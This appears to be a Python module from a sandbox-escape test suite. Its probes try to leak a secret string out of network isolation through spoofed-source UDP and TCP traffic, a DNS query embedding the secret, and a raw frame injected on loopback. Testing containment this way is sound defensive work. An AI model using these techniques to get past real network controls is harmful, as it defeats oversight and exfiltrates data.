"""Line 1g: senders that are not here. To the kernel, an answer to one belongs to a flow that it knows.

Any user may send from a foreign IPv6 address: a kernel that asks only who began a flow lets its answers out.
"""

import contextlib
import socket
import time
from collections.abc import Iterator

from childproof.escape.table import AROUND, attempt
from childproof.escape.talk import SECRET, question
from childproof.escape.ways import Way

from .device import BRIEF, NO_PACKETS, UNSEEN, frame, own_addresses

_IP_TRANSPARENT, _FREEBIND, _TRANSPARENT6, _FREEBIND6 = 19, 15, 75, 78
_FORGED, _FORGED6 = "203.0.113.77", "2001:db8:77::1"


def _forging(family: int, kind: int) -> Iterator[socket.socket]:
    """A socket bound to an address that is somebody else's, by each option that permits it."""
    level, options = (
        (socket.IPPROTO_IPV6, (_FREEBIND6, _TRANSPARENT6))
        if family == socket.AF_INET6
        else (socket.IPPROTO_IP, (_FREEBIND, _IP_TRANSPARENT))
    )
    for option in options:
        with contextlib.suppress(OSError), socket.socket(family, kind) as sock:
            sock.settimeout(BRIEF)
            sock.setsockopt(level, option, 1)
            sock.bind((_FORGED6 if family == socket.AF_INET6 else _FORGED, 4477))
            yield sock


@attempt("1g", direct=UNSEEN, proxied=AROUND)
def an_answer_to_a_forged_datagram(way: Way) -> str:
    """One's own listener is asked by a sender that isn't here: to the kernel the answer belongs to a known flow."""
    del way
    answered = 0
    for family, own in own_addresses().items():
        with socket.socket(family, socket.SOCK_DGRAM) as server:
            server.settimeout(BRIEF)
            server.bind((own, 0))
            for forger in _forging(family, socket.SOCK_DGRAM):
                with contextlib.suppress(OSError):
                    forger.sendto(b"?", server.getsockname()[:2])
                    _, sender = server.recvfrom(10)
                    server.sendto(SECRET.encode(), sender)
                    answered += 1
    return f"{answered} answered"


@attempt("1g", direct=UNSEEN, proxied=AROUND)
def an_error_for_a_forged_datagram(way: Way) -> str:
    """Nobody listens at that port, and the kernel's error would carry what was sent."""
    del way
    sent = 0
    for family, own in own_addresses().items():
        for forger in _forging(family, socket.SOCK_DGRAM):
            with contextlib.suppress(OSError):
                sent += forger.sendto(SECRET.encode(), (own, 4478))
    return f"{sent} bytes sent"


@attempt("1g", direct=UNSEEN, proxied=AROUND)
def an_answer_to_a_forged_query(way: Way) -> str:
    """The proxy answers names: here to whom it asks itself, who would see the question in the answer."""
    del way
    sent = 0
    for host, family, option in (
        ("fd00:99::2", socket.AF_INET6, _FREEBIND6),
        ("10.99.0.2", socket.AF_INET, _IP_TRANSPARENT),
    ):
        level = socket.IPPROTO_IPV6 if family == socket.AF_INET6 else socket.IPPROTO_IP
        with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.setsockopt(level, option, 1)
            sock.bind((host, 53))
            sent += sock.sendto(question(f"{SECRET}.forged.example", 16), (host, 53))
    return f"{sent} bytes sent"


@attempt("1g", direct=UNSEEN, proxied=AROUND)
def an_answer_to_a_forged_connection(way: Way) -> str:
    """The kernel itself answers a SYN: of one's own listener, and of the proxy's."""
    del way
    begun = 0
    for family, own in own_addresses().items():
        with socket.create_server((own, 0), family=family) as server:
            for place in (server.getsockname()[:2], ("2606:4700::77" if ":" in own else "203.0.113.78", 80)):
                for forger in _forging(family, socket.SOCK_STREAM):
                    forger.setblocking(False)
                    with contextlib.suppress(OSError):
                        begun += forger.connect_ex(place) in (0, 115)
                        time.sleep(0.01)  # a SYN and its answer take microseconds
    return f"{begun} begun"


@attempt("1g", direct=NO_PACKETS, proxied=AROUND, capable=UNSEEN)
def an_answer_to_a_forged_frame(way: Way) -> str:
    """The forged sender's datagram is put on `lo` as a frame."""
    del way
    own = own_addresses()[socket.AF_INET]
    with (
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server,
    ):
        server.settimeout(BRIEF)
        server.bind((own, 0))
        sock.bind(("lo", 0))
        sock.send(frame("203.0.113.79", own, server.getsockname()[1]))
        _, sender = server.recvfrom(100)
        server.sendto(SECRET.encode(), sender)
    return "answered"
